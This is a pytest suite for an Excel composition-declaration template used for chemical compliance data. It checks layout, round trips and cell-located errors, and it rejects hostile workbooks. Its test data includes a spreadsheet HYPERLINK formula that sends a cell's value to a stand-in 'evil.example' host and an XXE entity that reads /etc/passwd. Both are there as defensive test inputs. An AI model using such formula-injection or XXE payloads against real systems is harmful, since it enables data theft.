"""The .xlsx composition template: layout, round trips, every problem at its cell, hostile files."""

from __future__ import annotations

import io
import re
import time
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.utils.translation import override, pgettext

from chemicals.composition import Exemption, Material, Part, Product, Substance
from chemicals.formats import json_tree, registry, xlsx_template
from chemicals.formats.safe_input import Limits
from chemicals.formats.xlsx_template import COL, PRODUCT_COL
from chemicals.problems import ERROR, MESSAGES, WARNING
from chemicals.validation import validate

SHEET_XML = "xl/worksheets/sheet2.xml"  # Instructions, Composition, Example: the second sheet
LIMITS = Limits(max_upload_bytes=50 * 2**20)


# -- helpers ------------------------------------------------------------------------------------------


def row(level: Any, kind: Any, name: str = "", **cells: Any) -> dict[str, Any]:
    return {"level": level, "type": kind, "name": name, **cells}


def workbook(
    rows: list[dict[str, Any]] = (), *, product: dict[str, Any] | None = None, language: str = "en", edit=None
) -> bytes:
    """The template as downloaded, then filled in with openpyxl as a supplier would in Excel."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template(language=language)))
    sheet = book["Composition"]
    fields = {"part_number": "P-1", "name": "Widget", **(product or {})}
    for key, value in fields.items():
        sheet.cell(row=2, column=PRODUCT_COL[key] + 1, value=value)
    for offset, values in enumerate(rows):
        for key, value in values.items():
            if value is not None:
                sheet.cell(row=5 + offset, column=COL[key] + 1, value=value)
    if edit is not None:
        edit(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def read(data: bytes):
    return xlsx_template.read(data, name="decl.xlsx", limits=LIMITS)


def located(result) -> list[tuple[str, str, str]]:
    return [(p.code, p.severity, p.cell) for p in result.problems]


def rewrite(data: bytes, member: str, change) -> bytes:
    """DATA with one ZIP member rewritten (for what openpyxl cannot write: cached values, odd rows)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info.filename, change(content) if info.filename == member else content)
    return out.getvalue()


def append_rows(data: bytes, rows_xml: bytes) -> bytes:
    return rewrite(data, SHEET_XML, lambda xml: xml.replace(b"</sheetData>", rows_xml + b"</sheetData>"))


def shape(product: Product) -> tuple:
    """The tree without locations; Decimals compare by value, declared masses by their unit."""

    def unit(declared: str) -> str:
        return declared.rpartition(" ")[2]

    def substance(s: Substance) -> tuple:
        return (s.identifier, s.name, s.mass_percent, s.mass_mg, s.intentional, tuple(s.exemptions))

    def material(m: Material) -> tuple:
        return (
            m.name,
            m.mass_mg,
            unit(m.declared_mass),
            m.code,
            m.material_class,
            m.use_code,
            m.is_packaging,
            tuple(map(substance, m.substances)),
        )

    def part(p: Part) -> tuple:
        return (
            p.name,
            p.identifier,
            p.number_of_units,
            p.mass_mg,
            unit(p.declared_mass),
            tuple(map(part, p.parts)),
            tuple(map(material, p.materials)),
            tuple(map(substance, p.substances)),
        )

    return (
        product.part_number,
        product.name,
        product.version,
        product.kind,
        product.unit_type,
        product.mass_mg,
        unit(product.declared_mass),
        product.buyer_part_number,
        tuple(json_tree.destination_markets(product)),
        tuple(map(part, product.parts)),
        tuple(map(material, product.materials)),
        tuple(map(substance, product.substances)),
    )


def rich_product() -> Product:
    product = Product(
        part_number="00123",
        name='=HYPERLINK("http://evil.example","click")',
        version="B",
        unit_type="each",
        mass_mg=Decimal("3000"),
        declared_mass="3 g",
        buyer_part_number="+H-1",
        parts=[
            Part(
                name="-Sleeve",
                identifier="@SL-1",
                number_of_units=Decimal("2"),
                mass_mg=Decimal("300"),
                declared_mass="0.3 g",
                materials=[
                    Material(
                        name="PVC",
                        mass_mg=Decimal("300"),
                        declared_mass="300 mg",
                        code="P514",
                        material_class="M-211",
                        use_code="2",
                        is_packaging=True,
                        substances=[
                            Substance("9002-86-2", "PVC", Decimal("50"), None, intentional=True),
                            Substance(
                                "7439-92-1",
                                "Lead",
                                Decimal("0.05"),
                                Decimal("0.15"),
                                intentional=False,
                                exemptions=[
                                    Exemption(list_identity="RoHS Annex III", reg_index="6(c)"),
                                    Exemption(list_identity="RoHS Annex III", reg_index="7(a)"),
                                ],
                            ),
                            Substance(
                                "SN0015",
                                "Brominated flame retardants",
                                Decimal("0.001"),
                                exemptions=[
                                    Exemption(list_identity="RoHS Annex III", reg_index="6(c)"),
                                    Exemption(list_identity="ELV Annex II", reg_index="3"),
                                ],
                            ),
                        ],
                    )
                ],
                substances=[Substance("1333-86-4", "Carbon black", None, Decimal("0.0009"))],
                parts=[
                    Part(
                        name="Wire",
                        number_of_units=Decimal("0.15"),
                        mass_mg=Decimal("12.5"),
                        declared_mass="12.5 mg",
                        parts=[Part(name="Strand", mass_mg=Decimal("1"), declared_mass="0.001 g")],
                    )
                ],
            ),
            Part(name="Case", mass_mg=None),
        ],
        materials=[Material(name="Label", mass_mg=Decimal("2"), declared_mass="2 mg")],
        substances=[Substance("7440-50-8", "Copper", Decimal("1"))],
    )
    json_tree.set_destination_markets(product, ["EU", "US", "CN", "JP"])
    return product


# -- the template ---------------------------------------------------------------------------------------


def test_template_layout():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template()))
    assert book.sheetnames == ["Instructions", "Composition", "Example"]
    assert book.active.title == "Instructions"
    sheet = book["Composition"]
    assert sheet.freeze_panes == "C5"
    assert [sheet.cell(row=4, column=i + 1).value for i in range(15)] == [
        "Level",
        "Type",
        "Name",
        "Part number or CAS/SN",
        "Number of units",
        "Mass",
        "Unit",
        "Mass %",
        "Material code",
        "Material class",
        "Use code",
        "Packaging (yes/no)",
        "Intentionally added (yes/no/blank)",
        "Exemption list",
        "Exemption item",
    ]
    assert sheet["A4"].font.b and sheet["A4"].fill.fgColor.rgb.endswith("DDEBF7")
    assert sheet["B1"].value == "Kind (Article/Mixture)" and sheet["D1"].value == "Part number"
    assert sheet.column_dimensions["C"].width == 36
    assert sheet.column_dimensions["D"].number_format == "@"  # "7439-92-1" must not become a date
    validations = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert validations["B5:B100004"] == '"Part,Material,Substance"'
    assert validations["G5:G100004"] == '"mg,g,kg"'
    assert validations["L5:M100004"] == '"yes,no"'
    assert validations["B2"] == '"Article,Mixture"'
    assert validations["H2"].startswith('"each,g,kg,cm^2')
    instructions = book["Instructions"]
    assert instructions["A1"].value == "Composition declaration template"
    texts = [c.value for r in instructions.iter_rows() for c in r if c.value]
    assert any("100,000" in t for t in texts)
    assert book.properties.language == "en"


def test_example_sheet_is_the_capacitor():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template()))
    example = book["Example"]
    assert example["D2"].value == "CAP-100" and example["F2"].value == 3 and example["G2"].value == "g"
    cells = [c.value for r in example.iter_rows(min_row=5) for c in r if c.value is not None]
    assert {"7439-92-1", "9002-86-2", "117-81-7", "7440-50-8"} <= set(cells)
    # The example, read as a declaration, has only the seed's own flaws: the unnamed "other substances"
    # and its parts adding up to 2.991 g against the declared 3 g.
    (product,) = read(xlsx_template.build_template(product=xlsx_template.example_product())).products
    assert shape(product) == shape(xlsx_template.example_product())
    assert {p.code for p in validate([product])} == {"cas.missing", "mass.rollup_mismatch"}


def test_ja_template_has_the_same_structure_in_japanese():
    english = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template(language="en")))
    japanese = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template(language="ja")))
    assert japanese.properties.language == "ja"

    def layout(sheet):
        return [c.coordinate for r in sheet.iter_rows() for c in r if c.value is not None]

    for name in ("Instructions", "Composition", "Example"):
        assert layout(japanese[name]) == layout(english[name]), name
    # Every word comes from the Japanese catalogue, whether or not it has the translation yet.
    with override("ja"):
        yes, no = pgettext("composition template", "yes"), pgettext("composition template", "no")
        level = pgettext("composition template", "Level")
    validations = {str(v.sqref): v.formula1 for v in japanese["Composition"].data_validations.dataValidation}
    assert validations["L5:M100004"] == f'"{yes},{no}"'
    assert japanese["Composition"]["A4"].value == level
    # And a Japanese template reads back like any other.
    data = xlsx_template.build_template(language="ja", product=rich_product())
    result = read(data)
    assert result.problems == []
    assert shape(result.products[0]) == shape(rich_product())


def test_unknown_language_falls_back_to_english():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template(language="xx")))
    assert book.properties.language == "en"


# -- round trips ----------------------------------------------------------------------------------------


def test_downloaded_product_reads_back_as_the_same_tree():
    data = xlsx_template.build_template(product=rich_product())
    result = read(data)
    assert result.format_key == "xlsx" and result.problems == []
    (product,) = result.products
    assert shape(product) == shape(rich_product())
    assert product.declared_mass == "3 g" and product.parts[0].declared_mass == "0.3 g"
    assert product.location == "Composition!D2" and product.source == "decl.xlsx"
    assert product.parts[0].location == "Composition!A7"  # after the product's material and substance
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.active.title == "Composition"


def test_user_text_is_escaped_and_no_cell_is_a_formula():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_template.build_template(product=rich_product())))
    sheet = book["Composition"]
    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert sheet["C2"].value == '\'=HYPERLINK("http://evil.example","click")'
    assert sheet["I2"].value == "'+H-1"
    names = {c.value for c in cells if c.column == 3}
    assert "'-Sleeve" in names
    assert "'@SL-1" in {c.value for c in cells if c.column == 4}
    # read back exactly as the supplier wrote it
    (product,) = read(xlsx_template.build_template(product=rich_product())).products
    assert product.name == rich_product().name and product.parts[0].identifier == "@SL-1"


def test_mixture_round_trip():
    mixture = Product(
        part_number="INK-1",
        kind="mixture",
        unit_type="kg",
        substances=[
            Substance("64-17-5", "Ethanol", Decimal("12.5")),
            Substance("7732-18-5", "Water", Decimal("87.5")),
        ],
    )
    (product,) = read(xlsx_template.build_template(product=mixture)).products
    assert shape(product) == shape(mixture)


def test_empty_template_reads_as_an_empty_product():
    result = read(xlsx_template.build_template())
    assert result.problems == []
    (product,) = result.products
    assert (product.part_number, product.parts, product.kind, product.unit_type) == (
        "",
        [],
        "article",
        "each",
    )


def test_read_upload_routes_workbooks_here():
    result = registry.read_upload(
        xlsx_template.build_template(product=rich_product()), name="x.xlsx", limits=LIMITS
    )
    assert result.format_key == "xlsx" and shape(result.products[0]) == shape(rich_product())


# -- typing -----------------------------------------------------------------------------------------


def test_tree_from_levels():
    data = workbook(
        [
            row(1, "Part", "Body", identifier="B-1", units=2, mass="1.5", unit="g"),
            row(2, "Material", "Steel", mass=1500, unit="mg", material_code="R312"),
            row(3, "Substance", "Iron", identifier="7439-89-6", percent=98),
            row(2, "Part", "Screw", units="0,5"),
            row(3, "Material", "Brass", mass="0,2", unit="G"),
            row(1, "Material", "Paint", mass=3, unit="mg"),
            row(1, "Substance", "Carbon black", identifier="1333-86-4", mass=0.01, unit="mg"),
        ]
    )
    result = read(data)
    assert result.problems == []
    (product,) = result.products
    (body,) = product.parts
    assert (body.identifier, body.number_of_units, body.mass_mg, body.declared_mass) == (
        "B-1",
        2,
        1500,
        "1.5 g",
    )
    assert body.materials[0].substances[0].mass_percent == 98
    (screw,) = body.parts
    assert screw.number_of_units == Decimal("0.5") and screw.materials[0].mass_mg == 200
    assert product.materials[0].name == "Paint" and product.substances[0].mass_mg == Decimal("0.01")
    assert body.materials[0].substances[0].location == "Composition!A7"


def test_vocabulary_in_three_languages_and_numbers_as_typed():
    data = workbook(
        [
            row(1, "部品", "A", mass="１．５", unit="ｇ"),
            row(2, "材質", "B", mass="1.234,5", unit="mg", packaging="はい"),
            row(3, "物質", "c1", percent="12,5", intentional="いいえ"),
            row(3, "物质", "c2", percent="50%", intentional="是"),
            row(3, "substance", "c3", percent="1,234.5", intentional="否"),
            row(3, "SUBSTANCE", "c4", intentional=True),
            row(3, "Substance", "c5", intentional="No"),
            row(2, "零件", "D"),
            row(3, "材料", "E", packaging="否"),
        ],
        product={
            "kind": "成形品",
            "unit_type": "cm2",
            "destination_markets": "EU、US; CN，JP",
            "mass": 2,
            "unit": "g",
        },
    )
    result = read(data)
    assert result.problems == []
    (product,) = result.products
    assert product.kind == "article" and product.unit_type == "cm^2" and product.declared_mass == "2 g"
    assert json_tree.destination_markets(product) == ["EU", "US", "CN", "JP"]
    part = product.parts[0]
    assert part.mass_mg == 1500
    material = part.materials[0]
    assert material.mass_mg == Decimal("1234.5") and material.is_packaging is True
    assert [s.mass_percent for s in material.substances] == [
        Decimal("12.5"),
        50,
        Decimal("1234.5"),
        None,
        None,
    ]
    assert [s.intentional for s in material.substances] == [False, True, False, True, False]
    assert part.parts[0].materials[0].is_packaging is False


def test_percent_formatted_cells_are_read_as_percentages():
    def percent_format(book):
        book["Composition"]["H6"].number_format = "0.0%"

    data = workbook([row(1, "Material", "M"), row(2, "Substance", "S", percent=0.125)], edit=percent_format)
    (product,) = read(data).products
    assert product.materials[0].substances[0].mass_percent == Decimal("12.5")


def test_empty_rows_are_ignored_also_in_the_middle_and_when_formatted():
    def format_tail(book):
        sheet = book["Composition"]
        for r in range(7, 400):
            sheet.cell(row=r, column=3).number_format = "@"  # styled, no value
        sheet["C50"] = "   "

    data = workbook([row(1, "Part", "A"), {}, row(1, "Part", "B")], edit=format_tail)
    result = read(data)
    assert result.problems == []
    assert [p.name for p in result.products[0].parts] == ["A", "B"]


# -- problems at their cells -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rows, expected",
    [
        (
            [row(1, "Part", "A"), row(3, "Substance", "S")],
            ("A6", {"level": 3, "previous": 1, "what": "substance"}),
        ),
        (
            [row(1, "Part", "A"), row(2, "Material", "M"), row(3, "Part", "P")],
            ("A7", {"level": 3, "previous": 2, "what": "part"}),
        ),
        (
            [row(1, "Substance", "S"), row(2, "Substance", "T")],
            ("A6", {"level": 2, "previous": 1, "what": "substance"}),
        ),
        ([row("x", "Part", "A")], ("A5", {"level": "x", "previous": 0})),
        ([row(0, "Part", "A")], ("A5", {"level": "0", "previous": 0})),
        ([row(1.5, "Part", "A")], ("A5", {"level": "1.5", "previous": 0})),
        ([row(None, "Part", "A")], ("A5", {"level": "''", "previous": 0})),
    ],
)
def test_level_problems(rows, expected):
    result = read(workbook(rows))
    assert [(p.code, p.cell, p.params) for p in result.problems] == [
        ("xlsx.level_invalid", f"Composition!{expected[0]}", expected[1])
    ]


def test_rows_below_a_refused_row_are_skipped_not_misplaced():
    rows = [
        row(1, "Part", "A"),
        row(3, "Part", "jumped"),
        row(4, "Material", "inside the refused part"),
        row(5, "Substance", "also inside"),
        row(2, "Material", "Steel"),
    ]
    result = read(workbook(rows))
    assert located(result) == [("xlsx.level_invalid", ERROR, "Composition!A6")]
    (part,) = result.products[0].parts
    assert part.parts == [] and [m.name for m in part.materials] == ["Steel"]


@pytest.mark.parametrize(
    "cells, code, cell, params",
    [
        ({"type": "Widget"}, "xlsx.type_unknown", "B5", {"value": "Widget"}),
        ({"type": None}, "xlsx.type_unknown", "B5", {"value": "''"}),
        ({"mass": "abc", "unit": "g"}, "mass.not_a_number", "F5", {"value": "abc"}),
        ({"mass": "1,234", "unit": "g"}, "number.ambiguous", "F5", {"value": "1,234"}),
        ({"mass": "1e40", "unit": "g"}, "number.out_of_range", "F5", {"value": "1e40"}),
        ({"mass": "NaN", "unit": "g"}, "mass.not_a_number", "F5", {"value": "NaN"}),
        ({"mass": 3, "unit": "lb"}, "mass.unit_unknown", "G5", {"unit": "lb"}),
        ({"mass": 3}, "mass.unit_unknown", "G5", {"unit": "''"}),
        ({"units": "two"}, "mass.not_a_number", "E5", {"value": "two"}),
        ({"percent": "50"}, "xlsx.cell_ignored", "H5", {"column": "H", "what": "part"}),
        ({"intentional": "yes"}, "xlsx.cell_ignored", "M5", {"column": "M", "what": "part"}),
    ],
)
def test_part_row_problems(cells, code, cell, params):
    result = read(workbook([{**row(1, "Part", "A"), **cells}]))
    assert [(p.code, p.cell, p.params) for p in result.problems] == [(code, f"Composition!{cell}", params)]
    severity = WARNING if code == "xlsx.cell_ignored" else ERROR
    assert result.problems[0].severity == severity and result.problems[0].source == "decl.xlsx"


@pytest.mark.parametrize(
    "cells, code, cell, params",
    [
        ({"intentional": "maybe"}, "xlsx.yes_no_invalid", "M6", {"value": "maybe"}),
        ({"percent": "lots"}, "mass.not_a_number", "H6", {"value": "lots"}),
        (
            {"exemption_list": "A; B", "exemption_item": "1; 2; 3"},
            "xlsx.exemption_mismatch",
            "O6",
            {"lists": 2, "items": 3},
        ),
        ({"exemption_list": "RoHS Annex III"}, "xlsx.exemption_mismatch", "O6", {"lists": 1, "items": 0}),
        ({"material_code": "R312"}, "xlsx.cell_ignored", "I6", {"column": "I", "what": "substance"}),
    ],
)
def test_substance_row_problems(cells, code, cell, params):
    result = read(workbook([row(1, "Material", "M"), {**row(2, "Substance", "S"), **cells}]))
    assert [(p.code, p.cell, p.params) for p in result.problems] == [(code, f"Composition!{cell}", params)]


def test_material_row_problems():
    result = read(workbook([row(1, "Material", "M", packaging="perhaps", identifier="X-1")]))
    assert located(result) == [
        ("xlsx.cell_ignored", WARNING, "Composition!D5"),
        ("xlsx.yes_no_invalid", ERROR, "Composition!L5"),
    ]


def test_exemptions():
    data = workbook(
        [
            row(1, "Material", "Solder"),
            row(2, "Substance", "Lead", exemption_list="RoHS Annex III", exemption_item="6(c); 7(a)"),
            row(
                2,
                "Substance",
                "Lead",
                exemption_list="RoHS Annex III\nELV Annex II",
                exemption_item="７(ａ)；3",
            ),
            row(2, "Substance", "Lead", exemption_item="6(c)"),
        ]
    )
    result = read(data)
    assert result.problems == []
    first, second, third = result.products[0].materials[0].substances
    assert first.exemptions == [
        Exemption(list_identity="RoHS Annex III", reg_index="6(c)"),
        Exemption(list_identity="RoHS Annex III", reg_index="7(a)"),
    ]
    assert second.exemptions == [
        Exemption(list_identity="RoHS Annex III", reg_index="7(a)"),
        Exemption(list_identity="ELV Annex II", reg_index="3"),
    ]
    assert third.exemptions == [Exemption(reg_index="6(c)")]


def test_all_problems_at_once():
    rows = [
        row(1, "Part", "A", mass="x", unit="g"),
        row(2, "Thing", "B"),
        row(2, "Material", "C", mass=1, unit="oz", packaging="?"),
        row(4, "Substance", "D"),
    ]
    result = read(workbook(rows, product={"kind": "Gadget", "mass": "heavy", "unit": "g"}))
    assert located(result) == [
        ("xlsx.kind_unknown", ERROR, "Composition!B2"),
        ("mass.not_a_number", ERROR, "Composition!F2"),
        ("mass.not_a_number", ERROR, "Composition!F5"),
        ("xlsx.type_unknown", ERROR, "Composition!B6"),
        ("mass.unit_unknown", ERROR, "Composition!G7"),
        ("xlsx.yes_no_invalid", ERROR, "Composition!L7"),
        ("xlsx.level_invalid", ERROR, "Composition!A8"),
    ]


def test_product_kind_and_mixture_rows():
    result = read(workbook([row(1, "Substance", "Ethanol", percent=12)], product={"kind": "混合物"}))
    assert result.problems == [] and result.products[0].kind == "mixture"
    result = read(workbook([row(1, "Part", "A"), row(1, "Substance", "S")], product={"kind": "Mixture"}))
    assert located(result) == [("composition.mixture_has_parts", ERROR, "Composition!B5")]
    assert [s.name for s in result.products[0].substances] == ["S"]


def test_parts_deeper_than_twenty_levels():
    rows = [row(level, "Part", f"L{level}") for level in range(1, 23)]
    result = read(workbook(rows))
    assert [(p.code, p.cell, p.params) for p in result.problems] == [
        ("composition.too_deep", "Composition!A25", {"limit": 20})
    ]


def test_header_mismatch_and_missing_sheet():
    def break_header(book):
        book["Composition"]["D4"] = "CAS"

    result = read(workbook(edit=break_header))
    assert located(result) == [("xlsx.header_mismatch", ERROR, "Composition!D4")]
    assert result.products == []
    assert result.problems[0].params["expected"].startswith("Level | Type | Name")

    def break_product_labels(book):
        book["Composition"]["F1"] = "Weight"

    assert located(read(workbook(edit=break_product_labels))) == [
        ("xlsx.header_mismatch", ERROR, "Composition!F1")
    ]

    def rename(book):
        book["Composition"].title = "Zusammensetzung"

    result = read(workbook(edit=rename))
    assert [(p.code, p.params) for p in result.problems] == [("xlsx.sheet_missing", {"sheet": "Composition"})]


def test_header_labels_are_matched_loosely():
    def relabel(book):
        book["Composition"]["A4"] = "  LEVEL "
        book["Composition"]["B4"] = "type"

    assert read(workbook([row(1, "Part", "A")], edit=relabel)).problems == []


# -- hostile files ------------------------------------------------------------------------------------


def test_formula_without_a_calculated_value_is_reported_never_evaluated():
    def formulas(book):
        sheet = book["Composition"]
        sheet["C5"] = '=HYPERLINK("http://evil.example/?leak="&D5,"Sleeve")'
        sheet["F5"] = "=0.1*3"

    result = read(workbook([row(1, "Part", None, mass=None, unit="g")], edit=formulas))
    assert located(result) == [
        ("xlsx.formula_uncalculated", ERROR, "Composition!C5"),
        ("xlsx.formula_uncalculated", ERROR, "Composition!F5"),
    ]
    assert result.products[0].parts[0].name == ""


def test_formula_with_a_calculated_value_gives_that_value():
    def formulas(book):
        book["Composition"]["C5"] = '=HYPERLINK("http://evil.example","Sleeve")'
        book["Composition"]["F5"] = "=0.1*3"

    data = workbook([row(1, "Part", None, unit="g")], edit=formulas)

    def cache(xml: bytes) -> bytes:  # what Excel writes: the formula and its last value
        xml = re.sub(
            rb'<c r="C5"([^>]*)><f>(.*?)</f><v\s*(?:/>|></v>)',
            rb'<c r="C5"\1 t="str"><f>\2</f><v>Sleeve</v>',
            xml,
        )
        return re.sub(
            rb'<c r="F5"([^>]*)><f>(.*?)</f><v\s*(?:/>|></v>)', rb'<c r="F5"\1><f>\2</f><v>0.3</v>', xml
        )

    result = read(rewrite(data, SHEET_XML, cache))
    assert result.problems == []
    part = result.products[0].parts[0]
    assert part.name == "Sleeve" and part.mass_mg == 300


def test_error_values_are_not_numbers():
    data = workbook(
        [row(1, "Part", "A", unit="g")], edit=lambda book: book["Composition"].__setitem__("F5", "=1/0")
    )
    data = rewrite(
        data,
        SHEET_XML,
        lambda xml: re.sub(
            rb'<c r="F5"([^>]*)><f>1/0</f><v\s*(?:/>|></v>)',
            rb'<c r="F5"\1 t="e"><f>1/0</f><v>#DIV/0!</v>',
            xml,
        ),
    )
    assert [(p.code, p.cell, p.params) for p in read(data).problems] == [
        ("mass.not_a_number", "Composition!F5", {"value": "#DIV/0!"})
    ]


def test_more_than_100000_rows_are_refused_before_they_are_read():
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c><c r="B%d" t="inlineStr"><is><t>Part</t></is></c></row>'
        % (r, r, r)
        for r in range(5, 5 + 100_001)
    )
    data = append_rows(xlsx_template.build_template(), rows)
    started = time.perf_counter()
    result = read(data)
    elapsed = time.perf_counter() - started
    assert [(p.code, p.cell, p.params) for p in result.problems] == [
        ("xlsx.too_many_rows", "Composition!A100005", {"limit": 100_000})
    ]
    assert result.products == []
    assert elapsed < 10


def test_row_limit_boundary(monkeypatch):
    monkeypatch.setattr(xlsx_template, "LIMIT_ROW", xlsx_template.FIRST_ROW + 3)
    three = [row(1, "Part", "A"), row(1, "Part", "B"), row(1, "Part", "C")]
    assert read(workbook(three)).problems == []
    assert located(read(workbook([*three, row(1, "Part", "D")]))) == [
        ("xlsx.too_many_rows", ERROR, "Composition!A8")
    ]


def test_a_far_away_row_number_is_refused_promptly():
    data = append_rows(
        xlsx_template.build_template(), b'<row r="999999999"><c r="A999999999"><v>1</v></c></row>'
    )
    started = time.perf_counter()
    assert [p.code for p in read(data).problems] == ["xlsx.too_many_rows"]
    assert time.perf_counter() - started < 5


def test_styled_cells_far_below_are_not_rows():
    data = append_rows(
        xlsx_template.build_template(), b'<row r="900000"><c r="A900000" s="0"/><c r="C900000" s="0"/></row>'
    )
    result = read(data)
    assert result.problems == [] and result.products[0].parts == []


def test_container_refusals_become_problems():
    (problem,) = read(b"this is not a workbook").problems
    assert problem.code == "xlsx.not_a_workbook" and problem.source == "decl.xlsx"
    assert "Excel" in problem.params["detail"]

    def add_doctype(xml: bytes) -> bytes:
        declaration = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        if xml.startswith(b"<?xml"):
            end = xml.index(b"?>") + 2
            return xml[:end] + declaration + xml[end:]
        return declaration + xml

    doctype = rewrite(xlsx_template.build_template(), SHEET_XML, add_doctype)
    (problem,) = read(doctype).problems
    assert problem.code == "xml.doctype_forbidden"


def test_damaged_workbook_is_unreadable_not_a_crash():
    damaged = rewrite(xlsx_template.build_template(), "xl/workbook.xml", lambda _xml: b"<workbook>")
    result = read(damaged)
    assert [p.code for p in result.problems] == ["xlsx.unreadable"]
    broken_cell = rewrite(
        xlsx_template.build_template(product=rich_product()),
        SHEET_XML,
        lambda xml: xml.replace(b'<c r="A5"', b'<c r="A5" t="s"', 1).replace(b"<v>1</v>", b"<v>99999</v>", 1),
    )
    assert [p.code for p in read(broken_cell).problems] == ["xlsx.unreadable"]


def test_reading_20000_rows_is_fast():
    parts = [
        Part(
            name=f"Part {i}",
            identifier=f"P-{i}",
            mass_mg=Decimal(1000),
            declared_mass="1 g",
            materials=[
                Material(
                    name="Steel",
                    mass_mg=Decimal(1000),
                    declared_mass="1 g",
                    code="R312",
                    substances=[
                        Substance("7439-92-1", f"Lead {j}", Decimal("1.5"), intentional=False)
                        for j in range(8)
                    ],
                )
            ],
        )
        for i in range(2000)
    ]
    data = xlsx_template.build_template(product=Product(part_number="BIG", parts=parts))
    started = time.perf_counter()
    result = read(data)
    elapsed = time.perf_counter() - started
    print(f"read 20,000 rows in {elapsed:.2f} s")
    assert result.problems == [] and len(result.products[0].parts) == 2000
    assert elapsed < 10


# -- codes ---------------------------------------------------------------------------------------------


def test_every_code_has_a_message(monkeypatch):
    """Fails until problems.MESSAGES has the codes these readers introduced (see the report)."""
    inputs = [
        rewrite(xlsx_template.build_template(), "xl/workbook.xml", lambda _xml: b"<workbook>"),
        workbook([row(1, "Part", "A"), row(3, "X", "B")], product={"kind": "?"}),
        workbook(
            [row(1, "Part", "A", mass="1,234", unit="g", percent=1), row(2, "Material", "M", packaging="?")]
        ),
        workbook(
            [row(1, "Material", "M"), row(2, "Substance", "S", mass="1e99", unit="g", exemption_list="a;b")]
        ),
        workbook([row(1, "Part", "A")], product={"kind": "Mixture"}),
        workbook([row(level, "Part", "P") for level in range(1, 23)]),
        workbook([row(1, "Part", "A")], edit=lambda book: book["Composition"].__setitem__("C5", "=1")),
    ]
    raised = {p.code for data in inputs for p in read(data).problems}
    with monkeypatch.context() as patch:
        patch.setattr(xlsx_template, "LIMIT_ROW", xlsx_template.FIRST_ROW + 1)
        raised |= {p.code for p in read(workbook([row(1, "Part", "A"), row(1, "Part", "B")])).problems}
    raised |= {
        p.code
        for p in json_tree.read({"product": {"substances": [{"mass": {"value": "x", "unit": "y"}}]}}).problems
    }
    assert {"xlsx.cell_ignored", "composition.too_deep", "xlsx.too_many_rows", "xlsx.unreadable"} <= raised
    assert raised - set(MESSAGES) == set()
